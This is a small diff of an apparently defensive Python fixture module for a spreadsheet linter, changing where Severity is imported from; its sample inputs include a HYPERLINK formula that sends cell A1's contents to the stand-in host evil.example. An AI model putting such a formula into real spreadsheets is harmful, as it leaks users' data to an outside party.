@@ -1,7 +1,8 @@
 """Texts that strangers may put into a cell, and reports made of them."""
 
-from goallint.finding import Finding, IndicatorRef, Related, Report, RuleInfo, Severity, Summary
+from goallint.finding import Finding, IndicatorRef, Related, Report, RuleInfo, Summary
 from goallint.grid import Location
+from goallint.severity import Severity
 
 TEXTS = (
     '=HYPERLINK("http://evil.example/?"&A1,"x")',
